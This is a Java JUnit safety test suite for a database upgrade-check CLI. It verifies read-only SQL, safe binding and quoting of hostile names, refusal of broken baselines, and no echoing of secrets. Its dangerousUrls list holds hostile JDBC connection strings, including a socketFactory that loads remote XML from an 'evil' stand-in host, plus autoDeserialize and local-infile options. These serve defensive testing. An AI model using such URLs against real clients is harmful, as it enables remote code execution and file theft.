package dev.upgradecheck.safety;

import com.fasterxml.jackson.databind.JsonNode;
import dev.upgradecheck.engine.EngineRegistry;
import dev.upgradecheck.engine.mongodb.MongoPeer;
import dev.upgradecheck.engine.oracle.RecordedOracleSource;
import dev.upgradecheck.engine.sqlserver.RecordedSqlServerSource;
import dev.upgradecheck.testing.CliRun;
import dev.upgradecheck.testing.RecordedCatalog;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Function;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * SQL Server and Oracle over their recorded catalogs (what was sent is recorded), plus what every engine does with
 * hostile names in plan, dangerous URLs and broken baselines.
 */
@ExtendWith(RecordedCatalog.EveryQueryAnswered.class) // the engines' own recorded tests ask every answer
class RecordedEnginesSafetyTest {

    static final List<Hostile.Name> HOSTILE = Hostile.NAMES;

    @TempDir
    Path dir;

    record Recorded(String engine, String url, Statements statements,
                    Function<List<RecordedCatalog>, EngineRegistry> registry) {
        @Override
        public String toString() {
            return engine;
        }
    }

    static final List<Recorded> RECORDED = List.of(
            new Recorded("sqlserver", "jdbc:sqlserver://db1.internal:1433;databaseName=sales;encrypt=true",
                    Statements.SQLSERVER, opened -> new EngineRegistry(List.of(RecordedSqlServerSource.healthy(opened)))),
            new Recorded("oracle", "jdbc:oracle:thin:@//db.example:1521/ORCL", Statements.ORACLE,
                    opened -> new EngineRegistry(List.of(RecordedOracleSource.healthy(opened)))));

    private static CliRun.Result run(EngineRegistry engines, List<String> args) {
        return CliRun.withEnv(Map.of("UPGRADE_CHECK_PASSWORD", "pw-1234")).engines(engines).run(args);
    }

    private List<String> connection(Recorded db, String command) {
        return new ArrayList<>(List.of(command, "--engine", db.engine(), "--url", db.url(), "--user", "cdc",
                "--format", "json"));
    }

    @ParameterizedTest(name = "{0}")
    @FieldSource("RECORDED")
    void everyStatementSentIsARead(Recorded db) {
        List<RecordedCatalog> opened = new ArrayList<>();
        EngineRegistry engines = db.registry().apply(opened);
        Path baseline = dir.resolve("b.json");
        List<String> precheck = connection(db, "precheck");
        precheck.addAll(List.of("--save-baseline", baseline.toString()));
        List<String> verify = connection(db, "verify");
        verify.addAll(List.of("--baseline", baseline.toString()));
        List<String> advice = connection(db, "snapshot-advice");
        advice.addAll(List.of("--baseline", baseline.toString()));
        List<String> plan = connection(db, "plan");
        plan.addAll(List.of("--to", db.engine().equals("oracle") ? "23" : "2022"));
        for (List<String> args : List.of(precheck, verify, advice, plan)) {
            CliRun.Result r = run(engines, args);
            assertThat(r.exitCode()).as(args + "\n" + r).isIn(0, 1);
        }
        List<String> sent = opened.stream().flatMap(c -> c.sent().stream()).toList();
        assertThat(sent).isNotEmpty();
        assertThat(sent).allSatisfy(sql -> assertThat(db.statements().isRead(sql)).as(sql).isTrue());
    }

    static Stream<Arguments> recordedHostile(boolean nameable) {
        return RECORDED.stream().flatMap(db -> HOSTILE.stream()
                .filter(n -> Hostile.nameable(db.engine(), n.value()) == nameable).map(n -> Arguments.of(db, n)));
    }

    static Stream<Arguments> recordedHostile() {
        return recordedHostile(true);
    }

    static Stream<Arguments> recordedUnnameable() {
        return recordedHostile(false);
    }

    /** precheck with the CDC user and a captured table named {@code name}, as a user of this engine writes them. */
    private List<String> precheckNaming(Recorded db, String name) {
        List<String> args = connection(db, "precheck");
        args.addAll(List.of("--tables", "app." + Hostile.spelled(db.engine(), name),
                "--cdc-user", db.engine().equals("oracle") ? Hostile.spelled("oracle", name) : name));
        return args;
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("recordedHostile")
    void hostileNamesAreBoundValuesThatNeverChangeTheSql(Recorded db, Hostile.Name name) {
        List<RecordedCatalog> benignOpened = new ArrayList<>();
        run(db.registry().apply(benignOpened), precheckNaming(db, "orders"));
        Set<String> benignSql = new HashSet<>();
        benignOpened.forEach(c -> benignSql.addAll(c.sent()));

        List<RecordedCatalog> opened = new ArrayList<>();
        CliRun.Result r = run(db.registry().apply(opened), precheckNaming(db, name.value()));

        assertThat(r.exitCode()).as(r.toString()).isIn(0, 1);
        List<String> sent = opened.stream().flatMap(c -> c.sent().stream()).toList();
        assertThat(sent).as("SQL benign names cause too").isNotEmpty().allSatisfy(sql -> {
            assertThat(sql).as("a name leaked into the SQL").doesNotContain(name.tell());
            assertThat(benignSql).contains(sql);
        });
        List<Object> bound = opened.stream().flatMap(c -> c.boundValues().stream()).flatMap(List::stream).toList();
        assertThat(bound).as("the name reached the catalog as a bound value, exactly").contains(name.value());
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("recordedUnnameable")
    void namesTheEngineCannotHaveAreRefusedInOneLine(Recorded db, Hostile.Name name) {
        List<RecordedCatalog> opened = new ArrayList<>();
        CliRun.Result r = run(db.registry().apply(opened), precheckNaming(db, name.value()));

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(2);
        assertThat(r.err().strip().lines()).as(r.toString()).hasSize(1);
        assertThat(opened.stream().flatMap(c -> c.sent().stream())).as("sent before refusing")
                .noneMatch(sql -> sql.contains(name.tell()));
    }

    static Stream<Arguments> planHostile(boolean nameable) {
        return Stream.of("postgres", "mysql", "sqlserver", "oracle", "mongodb").flatMap(e -> HOSTILE.stream()
                .filter(n -> Hostile.nameable(e, n.value()) == nameable).map(n -> Arguments.of(e, n)));
    }

    static Stream<Arguments> planHostile() {
        return planHostile(true);
    }

    static Stream<Arguments> planUnnameable() {
        return planHostile(false);
    }

    private static CliRun.Result planNaming(String engine, String name) {
        String from = Map.of("postgres", "14", "mysql", "8.0", "sqlserver", "2019", "oracle", "19",
                "mongodb", "6.0").get(engine);
        String to = Map.of("postgres", "16", "mysql", "8.4", "sqlserver", "2022", "oracle", "23",
                "mongodb", "7.0").get(engine);
        String spelled = Hostile.spelled(engine, name);
        String table = engine.equals("mongodb") ? "shop." + name : "app." + spelled;
        return new CliRun().run("plan", "--engine", engine, "--from", from, "--to", to,
                "--slot", name, "--publication", name, "--tables", table, "--cdc-user", spelled, "--format", "json");
    }

    /** plan writes names into SQL for a DBA to paste: quoted so they parse back to exactly the name, never as SQL. */
    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("planHostile")
    void planQuotesHostileNamesSoTheyParseBack(String engine, Hostile.Name name) {
        String v = name.value();
        CliRun.Result r = planNaming(engine, v);

        assertThat(r.exitCode()).as(r.toString()).isZero();
        boolean appears = false;
        for (JsonNode step : r.json().get("steps")) {
            for (JsonNode statement : step.get("statements")) {
                String sql = statement.asText();
                if (sql.startsWith("upgrade-check ") || sql.startsWith("pg_upgrade ")) {
                    continue; // shell commands: not SQL
                }
                boolean backslash = engine.equals("mysql");
                assertThat(Statements.withoutLiterals(sql, backslash)).as("unquoted name in: " + sql)
                        .doesNotContain(name.tell());
                appears |= Quoted.tokens(sql, backslash).stream().anyMatch(t -> t.contains(v));
            }
        }
        // MongoDB's runbook is shell JavaScript without these SQL names; a dotted name is split into its parts
        if (!engine.equals("mongodb") && !v.contains(".")) {
            assertThat(appears).as("the name is in the plan, quoted: " + r.out()).isTrue();
        }
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("planUnnameable")
    void planRefusesNamesTheEngineCannotHaveInOneLine(String engine, Hostile.Name name) {
        CliRun.Result r = planNaming(engine, name.value());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(2);
        assertThat(r.err().strip().lines()).as(r.toString()).hasSize(1);
        assertThat(r.out()).isEmpty();
    }

    static Stream<Arguments> dangerousUrls() {
        return Stream.of(
                Arguments.of("postgres", "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml"),
                Arguments.of("postgres", "jdbc:postgresql://db/x?sslfactory=com.evil.Factory"),
                Arguments.of("postgres", "jdbc:postgresql://db/x?SSLFACTORY=com.evil.Factory"),
                Arguments.of("postgres", "jdbc:postgresql://db/x?loggerFile=/tmp/x.log"),
                Arguments.of("postgres", "jdbc:postgresql://db/x?%73ocketFactory=x"),
                Arguments.of("postgres", "not a url"),
                Arguments.of("mysql", "jdbc:mysql://db/x?allowLoadLocalInfile=true"),
                Arguments.of("mysql", "jdbc:mysql://db/x?autoDeserialize=true"),
                Arguments.of("mysql", "jdbc:mysql://db/x?AUTODESERIALIZE=TRUE"),
                Arguments.of("mysql", "jdbc:mysql://(host=db,allowLoadLocalInfile=true)/x"),
                Arguments.of("mysql", "jdbc:mysql://db/x?queryInterceptors=com.evil.I"),
                Arguments.of("mysql", "jdbc:mysql://db/x?allowUrlInLocalInfile=true"),
                Arguments.of("mysql", "jdbc:mysql://db:notaport/x"),
                Arguments.of("sqlserver", "jdbc:sqlserver://db;socketFactoryClass=com.evil.F"),
                Arguments.of("sqlserver", "jdbc:sqlserver://db;trustManagerClass=com.evil.T"),
                Arguments.of("sqlserver", "jdbc:sqlserver://db;password={unclosed"),
                Arguments.of("oracle", "jdbc:oracle:oci:@db"),
                Arguments.of("oracle", "jdbc:oracle:thin:@config-file:///tmp/x.json"),
                Arguments.of("oracle", "jdbc:oracle:thin:@//db/x?oracle.jdbc.provider.tlsConfiguration=x"),
                Arguments.of("mongodb", "mongodb://db/?authMechanism=MONGODB-OIDC"),
                Arguments.of("mongodb", "mongodb://db/?compressors=snappy"),
                Arguments.of("mongodb", "http://db/"));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("dangerousUrls")
    void dangerousOrMalformedUrlsAreRefusedBeforeAnyConnection(String engine, String url) throws Exception {
        try (SilentServer nobody = new SilentServer()) {
            CliRun.Result r = new CliRun().run("precheck", "--engine", engine, "--url", url, "--format", "json",
                    "--connect-timeout", "2s");

            assertThat(r.exitCode()).as(r.toString()).isEqualTo(2);
            assertThat(r.err().strip().lines()).as(r.toString()).hasSize(1);
            assertThat(r.err()).doesNotContain("Exception");
        }
    }

    static Stream<Arguments> brokenBaselines() {
        return SafetyFixtures.ALL.stream().flatMap(f -> BrokenBaselines.readBeforeConnecting(f.engine()).entrySet()
                .stream().map(e -> Arguments.of(f, e.getKey(), e.getValue())));
    }

    /** verify reads the baseline before it connects: the URL points at a silent host to prove it. */
    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("brokenBaselines")
    void brokenBaselinesExitTwoInOneLine(SafetyFixture engine, String kind, String content) throws Exception {
        Path file = dir.resolve("baseline.json");
        Files.writeString(file, content);
        try (SilentServer nobody = new SilentServer()) {
            CliRun.Result r = new CliRun().run("verify", "--engine", engine.engine(), "--url",
                    engine.urlAt(nobody.port()), "--baseline", file.toString(), "--format", "json",
                    "--connect-timeout", "2s");

            BrokenBaselines.assertRefusedInOneLine(r);
        }
    }

    /** The engine reads its baseline state after connecting: here to a recorded catalog (PostgreSQL and MariaDB in
     * their safety suites, MongoDB below against the wire-protocol peer). */
    @ParameterizedTest(name = "{0}")
    @FieldSource("RECORDED")
    void baselineStateOfTheWrongShapeExitsTwoInOneLine(Recorded db) throws Exception {
        List<String> verify = connection(db, "verify");
        verify.addAll(List.of("--baseline", BrokenBaselines.wrongShapeState(db.engine(), dir).toString()));

        CliRun.Result r = run(db.registry().apply(new ArrayList<>()), verify);

        BrokenBaselines.assertRefusedInOneLine(r);
    }

    @Test
    void mongodbBaselineStateOfTheWrongShapeExitsTwoInOneLine() throws Exception {
        try (MongoPeer mongo = new MongoPeer(true)) {
            CliRun.Result r = new CliRun().run("verify", "--engine", "mongodb", "--url", mongo.url,
                    "--baseline", BrokenBaselines.wrongShapeState("mongodb", dir).toString(), "--format", "json");

            BrokenBaselines.assertRefusedInOneLine(r);
        }
    }

    @Test
    void oversizedPasswordFileIsRefusedWithoutEchoingIt() throws Exception {
        Path file = dir.resolve("pw");
        Files.writeString(file, "Kestrel7Zq4411pw".repeat(5000));
        CliRun.Result r = new CliRun().run("precheck", "--engine", "postgres", "--url", "jdbc:postgresql://db/x",
                "--password-file", file.toString());
        assertThat(r.exitCode()).isEqualTo(2);
        assertThat(r.err().strip().lines()).hasSize(1);
        assertThat(r.err()).doesNotContain("Kestrel7Zq4411pw");
    }
}
